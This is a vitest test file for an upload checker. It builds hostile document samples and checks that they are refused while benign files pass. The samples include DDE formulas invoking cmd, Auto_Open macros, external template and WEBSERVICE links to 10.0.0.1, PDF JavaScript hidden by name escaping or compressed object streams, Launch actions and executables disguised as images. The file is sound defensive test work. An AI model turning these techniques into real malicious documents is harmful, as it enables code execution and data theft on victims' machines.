import { deflateSync } from 'node:zlib'
import { expect, test } from 'vitest'
import type { Carried } from '@/domain/hostile'
import { Refusal } from '@/domain/refusal'
import { dictionaryOf, locales } from '@/i18n'
import { makeCompound, makeRecords } from '../testing/make-compound'
import { makeDocx, paragraph } from '../testing/make-docx'
import { makePdf, writePdf } from '../testing/make-pdf'
import { writeWorkbook } from '../write-xlsx'
import { writeZip } from '../zip/write-zip'
import { checkUpload } from './check-upload'

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const relations = (type: string, target: string, mode = '') =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="${type}" Target="${target}"${mode && ` TargetMode="${mode}"`}/></Relationships>`
const types = (...overrides: string[]) =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">${overrides.map((type, index) => `<Override PartName="/word/p${index}.xml" ContentType="${type}"/>`).join('')}</Types>`
const run = (inside: string) => `<w:r>${inside}</w:r>`
const mark = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`)
const code = (text: string) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`)
const field = (...codes: string[]) =>
  `<w:p>${mark('begin')}${codes.map(code).join('')}${mark('separate')}${run('<w:t>1</w:t>')}${mark('end')}</w:p>`
const word = (body: string, parts: Record<string, string | Uint8Array> = {}) =>
  pack({
    '[Content_Types].xml': types(),
    'word/document.xml': `<w:document xmlns:w="w">${body}</w:document>`,
    ...parts,
  })
const sheet = (inside: string, parts: Record<string, string | Uint8Array> = {}) =>
  pack({ 'xl/workbook.xml': '<workbook/>', 'xl/worksheets/sheet1.xml': `<worksheet>${inside}</worksheet>`, ...parts })
const pack = (parts: Record<string, string | Uint8Array>) =>
  writeZip(Object.fromEntries(Object.entries(parts).map(([name, part]) => [name, Buffer.from(part)])))
const basic = makeCompound({ 'VBA/dir': Buffer.from('x'), 'VBA/_VBA_PROJECT': Buffer.from('x') })
const program = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(100),
  Buffer.from('This program cannot be run in DOS mode'),
])

const pdf = (...objects: string[]) =>
  writePdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]/Count 0>>', ...objects])
const packed = (objects: string, more = '') => {
  const data = deflateSync(Buffer.from(`7 0 ${objects}`)).toString('latin1')
  return `<</Type/ObjStm/N 1/First 4/Filter/FlateDecode${more}/Length ${data.length}>>stream\n${data}\nendstream`
}
const book = (...records: [number, number[] | Buffer][]) =>
  makeCompound({ Workbook: makeRecords([0x809, Array(16).fill(0)], ...records) })

const hostile: [what: string, name: string, bytes: Uint8Array | Promise<Uint8Array>, reason: Carried | 'macros'][] = [
  ['macros under another name', 'a.docx', word('', { 'word/media/image1.png': basic }), 'macros'],
  [
    'a docm renamed: the type of its main part',
    'a.docx',
    word('', { '[Content_Types].xml': types('application/vnd.ms-word.document.macroEnabled.main+xml') }),
    'macros',
  ],
  [
    'a docm renamed: the type of all parts',
    'a.docx',
    word('', {
      '[Content_Types].xml':
        '<Types><Default Extension="XML" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    }),
    'macros',
  ],
  [
    'a relationship to a macro project',
    'a.docx',
    word('', {
      'word/_rels/document.xml.rels': relations(
        'http://schemas.microsoft.com/office/2006/relationships/vbaProject',
        'x.bin',
      ),
    }),
    'macros',
  ],
  [
    'relationships under another name',
    'a.docx',
    word('', { 'word/x.dat': relations(`${office}/attachedTemplate`, 'http://10.0.0.1/t.dotm', 'External') }),
    'externalTarget',
  ],
  [
    'a sheet of Excel 4 macros',
    'a.xlsx',
    sheet('', { 'xl/worksheets/sheet2.xml': '<xm:macrosheet xmlns:xm="m"><sheetData/></xm:macrosheet>' }),
    'macros',
  ],
  [
    'a macro sheet by its relationship',
    'a.xlsx',
    sheet('', {
      'xl/_rels/workbook.xml.rels': relations(
        'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet',
        'x.xml',
      ),
    }),
    'macros',
  ],
  [
    'a name that runs by itself',
    'a.xlsx',
    sheet('<definedNames><definedName name="_xlnm.Auto_Open">x!$A$1</definedName></definedNames>'),
    'macros',
  ],
  ['a formula that asks another program', 'a.xlsx', sheet("<c><f>cmd|'/c calc'!A0</f></c>"), 'dde'],
  [
    'a link that asks another program',
    'a.xlsx',
    sheet('', {
      'xl/externalLinks/e.xml': '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    }),
    'dde',
  ],
  ['a formula that asks the network', 'a.xlsx', sheet('<c><f>WEBSERVICE("http://10.0.0.1")</f></c>'), 'externalTarget'],
  [
    'a connection to a database',
    'a.xlsx',
    sheet('', { 'xl/connections.xml': '<connections><connection><dbPr connection="x"/></connection></connections>' }),
    'externalTarget',
  ],
  [
    'a DOCTYPE far down in a part',
    'a.docx',
    word('', { 'docProps/app.xml': `<a>${'x'.repeat(100_000)}<!DOCTYPE a></a>` }),
    'doctype',
  ],
  [
    'a DOCTYPE behind a long comment, in two bytes a letter',
    'a.docx',
    word('', { 'customXml/x.bin': Buffer.from(`\ufeff<!--${'y'.repeat(9_000)}--><!DOCTYPE a><a/>`, 'utf16le') }),
    'doctype',
  ],
  ['DDE in a field split over runs', 'a.docx', word(field(' DD', 'EAU', 'TO c:\\\\windows\\\\cmd.exe ')), 'field'],
  ['DDE in a simple field', 'a.docx', word('<w:fldSimple w:instr=" DDE excel x "/>'), 'field'],
  ['INCLUDEPICTURE', 'a.docx', word(field(' INCLUDEPICTURE "http://10.0.0.1/p.png" \\d ')), 'field'],
  [
    'INCLUDETEXT in a header',
    'a.docx',
    word('', { 'word/header1.xml': `<w:hdr xmlns:w="w">${field('INCLUDETEXT "x"')}</w:hdr>` }),
    'field',
  ],
  ['LINK in small letters', 'a.docx', word(field('link Excel.Sheet "x"')), 'field'],
  [
    'a field whose name another field makes',
    'a.docx',
    word(
      `<w:p>${mark('begin')}${mark('begin')}${code('QUOTE 68 68 69')}${mark('end')}${code(' excel x')}${mark('end')}</w:p>`,
    ),
    'field',
  ],
  [
    'a picture from elsewhere',
    'a.docx',
    word('', { 'word/_rels/document.xml.rels': relations(`${office}/image`, 'file:////10.0.0.1/p.png', 'External') }),
    'externalTarget',
  ],
  [
    'an object from elsewhere',
    'a.docx',
    word('', { 'word/_rels/document.xml.rels': relations(`${office}/oleObject`, 'http://10.0.0.1/x', 'external ') }),
    'externalTarget',
  ],
  [
    'a picture from elsewhere in an old drawing',
    'a.docx',
    word('<v:imagedata xmlns:v="v" src="http://10.0.0.1/p.png"/>'),
    'externalTarget',
  ],
  [
    'a packed file',
    'a.docx',
    word('', { 'word/embeddings/oleObject1.bin': makeCompound({ '\u0001Ole10Native': Buffer.from('calc.exe') }) }),
    'embeddedObject',
  ],
  ['a program as a part', 'a.docx', word('', { 'word/media/image1.emf': program }), 'program'],
  [
    'a program for Linux as a part',
    'a.pptx',
    pack({ 'ppt/presentation.xml': '<p/>', 'ppt/media/a.wav': Buffer.from('\x7fELF\x02', 'latin1') }),
    'program',
  ],
  [
    'a slide that starts a program',
    'a.pptx',
    pack({
      'ppt/presentation.xml': '<p/>',
      'ppt/slides/slide1.xml': '<a:hlinkClick xmlns:a="a" action="ppaction://program"/>',
    }),
    'program',
  ],
  ['a control', 'a.docx', word('', { 'word/activeX/a.xml': '<ax:ocx xmlns:ax="a"/>' }), 'activeX'],
  [
    'a control by its relationship',
    'a.docx',
    word('', { 'word/_rels/document.xml.rels': relations(`${office}/control`, 'a.xml') }),
    'activeX',
  ],
  [
    'a DOCTYPE that passes for one of a page',
    'a.docx',
    word('', {
      'word/header1.xml': '<!DOCTYPE html [<!ENTITY a "b">]><html/>',
      'x.html': '<!DOCTYPE html [<!ENTITY a "b">]><html/>',
    }),
    'doctype',
  ],
  [
    'a page with a script taken in',
    'a.docx',
    word('<w:altChunk/>', { 'word/chunk.html': '<!DOCTYPE html><html><script>1</script></html>' }),
    'script',
  ],
  [
    'a page with a picture from elsewhere taken in',
    'a.docx',
    word('<w:altChunk/>', { 'word/chunk.bin': '<html><img src="http://10.0.0.1/p.png"></html>' }),
    'externalTarget',
  ],
  [
    'macros in a workbook within',
    'a.docx',
    (async () => word('', { 'word/embeddings/a.xlsx': await sheet('', { 'xl/v.bin': basic }) }))(),
    'macros',
  ],
  ['a program in an OFD file', 'a.ofd', pack({ 'OFD.xml': '<OFD/>', 'Doc_0/Attachs/a.dat': program }), 'program'],
  [
    'a DOCTYPE in an OFD file',
    'a.ofd',
    pack({ 'OFD.xml': '<OFD/>', 'Doc_0/Document.xml': '<!DOCTYPE a><a/>' }),
    'doctype',
  ],
  [
    'old macros',
    'a.doc',
    makeCompound({ WordDocument: Buffer.alloc(600), 'Macros/VBA/dir': Buffer.from('x') }),
    'macros',
  ],
  [
    'old macros of WPS',
    'a.wps',
    makeCompound({ WordDocument: Buffer.alloc(600), _VBA_PROJECT: Buffer.from('x') }),
    'macros',
  ],
  [
    'an old field that starts a program',
    'a.doc',
    makeCompound({ WordDocument: Buffer.from('\x13 DDEAUTO cmd \x14x\x15') }),
    'field',
  ],
  [
    'an old field in two bytes a letter',
    'a.doc',
    makeCompound({ WordDocument: Buffer.from('甲\x13 INCLUDEPICTURE x\x15', 'utf16le') }),
    'field',
  ],
  [
    'an old packed file',
    'a.doc',
    makeCompound({ WordDocument: Buffer.alloc(600), 'ObjectPool/_1/\u0001Ole10Native': Buffer.from('x') }),
    'embeddedObject',
  ],
  ['an old sheet of Excel 4 macros', 'a.xls', book([0x85, [0, 0, 0, 0, 0, 1, 1, 0, 65]]), 'macros'],
  ['an old hidden macro sheet of WPS', 'a.et', book([0x85, [0, 0, 0, 0, 2, 1, 1, 0, 65]]), 'macros'],
  [
    'an old link that asks another program',
    'a.xls',
    book([0x1ae, Buffer.from('\0\0\x07\0\0cmd\x03/c x', 'latin1')]),
    'dde',
  ],
  ['a script of a pdf', 'a.pdf', pdf('<</S/JavaScript/JS(app.alert\\(1\\))>>'), 'script'],
  ['a script with its name escaped', 'a.pdf', pdf('<</S/J#61vaScr#69pt/J#53 5 0 R>>'), 'script'],
  ['a script in packed objects', 'a.pdf', pdf(packed('<</S/JavaScript/JS(x)>>')), 'script'],
  [
    'a script in packed objects of an escaped type',
    'a.pdf',
    pdf(packed('<</S/JavaScript>>').replace('/ObjStm', '/Obj#53tm')),
    'script',
  ],
  [
    'a script in hexadecimal packed objects',
    'a.pdf',
    pdf(
      packed('<</S/JavaScript>>').replace(
        /stream\n([\s\S]*)\nendstream/,
        (_, data) => `stream\n${Buffer.from(data, 'latin1').toString('hex')}>\nendstream`,
      ),
    ),
    'script',
  ],
  ['a script behind a string without an end', 'a.pdf', pdf('<</T(never ends /S/JavaScript>>'), 'script'],
  [
    'a script within what looks like a stream',
    'a.pdf',
    pdf('<</A(stream)>>endobj 9 0 obj<</S/JavaScript>>endobj 10 0 obj(endstream)'),
    'script',
  ],
  ['a form with scripts', 'a.pdf', pdf('<</AcroForm<</XFA 5 0 R>>>>'), 'script'],
  ['an action that starts a program', 'a.pdf', pdf('<</OpenAction<</S/Launch/F(cmd.exe)>>>>'), 'launch'],
  ['an attached file', 'a.pdf', pdf('<</Names<</EmbeddedFiles 5 0 R>>>>'), 'embeddedFile'],
  ['a form that sends', 'a.pdf', pdf('<</S/SubmitForm/F(http://10.0.0.1)>>'), 'externalTarget'],
  [
    'packed objects that nobody can look into',
    'a.pdf',
    pdf('<</Type/ObjStm/Length 3>>stream\nabc\nendstream'),
    'hidden',
  ],
  [
    'a program behind a picture',
    'a.png',
    Buffer.concat([Buffer.from('89504e470d0a1a0a0000', 'hex'), program]),
    'program',
  ],
]

const refusalOf = (bytes: Uint8Array, name: string) =>
  checkUpload(bytes, name).then(
    () => undefined,
    (error: unknown) => {
      if (error instanceof Refusal) return error
      throw error
    },
  )

test.each(hostile)('%s (%s) is refused, with what was found and a way out', async (_what, name, made, reason) => {
  const refusal = await refusalOf(await made, name)
  const expected = reason === 'macros' ? { code: 'fileWithMacros' } : { code: 'fileHostile', facts: { reason } }
  expect(refusal).toMatchObject(expected)
  for (const locale of locales) {
    const { fileHostile, fileWithMacros } = dictionaryOf(locale).refusals
    const sentence = reason === 'macros' ? fileWithMacros : fileHostile({ reason })
    expect(sentence).toMatch(/请|Please/)
    expect(sentence).not.toMatch(/内存|memory/)
  }
})

const plain: [what: string, name: string, bytes: Uint8Array | Promise<Uint8Array>][] = [
  [
    'a plain page taken in',
    'a.docx',
    word('<w:altChunk/>', { 'word/chunk.html': '<!DOCTYPE html><html><body><p>正文<br><img src="a.png"></html>' }),
  ],
  [
    'links to click',
    'a.docx',
    word(field(' HYPERLINK "https://example.test" '), {
      'word/_rels/document.xml.rels': relations(`${office}/hyperlink`, 'https://example.test', 'External'),
    }),
  ],
  [
    'contents, page numbers, dates and formulas',
    'a.docx',
    word(
      [' TOC \\o "1-3" ', ' PAGE ', ' NUMPAGES \\* Arabic ', ' PAGEREF _Toc1 ', ' DATE ', ' = SUM(ABOVE) ', ' LINKS ']
        .map((each) => field(each))
        .join(''),
    ),
  ],
  [
    'a field within a field’s words',
    'a.docx',
    word(
      `<w:p>${mark('begin')}${code(' IF ')}${mark('begin')}${code(' PAGE ')}${mark('end')}${code(' = 1 ')}${mark('separate')}${mark('end')}</w:p>`,
    ),
  ],
  [
    'words about fields and programs',
    'a.docx',
    makeDocx(paragraph('DDEAUTO 与 INCLUDEPICTURE 是什么？ &lt;!DOCTYPE&gt;')),
  ],
  [
    'a plain workbook behind a chart',
    'a.docx',
    (async () => word('', { 'word/embeddings/a.xlsx': await writeWorkbook([{ name: 'a', columns: [], rows: [] }]) }))(),
  ],
  ['formulas with a bar in quotes', 'a.xlsx', sheet('<c><f>A1&amp;"|"&amp;\'甲|乙\'!B2</f></c>')],
  [
    'an old drawing that is not well-formed',
    'a.xlsx',
    sheet('', { 'xl/drawings/vmlDrawing1.vml': '<xml><div>a<br></div></xml>' }),
  ],
  ['an old document', 'a.doc', makeCompound({ WordDocument: Buffer.from('\x13 PAGE \x14 1\x15 DDE') })],
  ['an old workbook', 'a.xls', book([0x85, [0, 0, 0, 0, 0, 0, 1, 0, 65]])],
  [
    'a pdf with links, packed objects and words about scripts',
    'a.pdf',
    pdf(
      '<</S/URI/URI(https://example.test)/T(/JavaScript \\( /JS)>>',
      packed('<</Type/Font/JSFont 1>>'),
      '%/JavaScript\n<<>>',
    ),
  ],
  ['a printed pdf', 'a.pdf', makePdf([[{ text: 'JavaScript /JS', left: 10, y: 10 }]])],
]

test.each(plain)('%s (%s) may come in', async (_what, name, made) => {
  expect(await refusalOf(await made, name)).toBeUndefined()
})
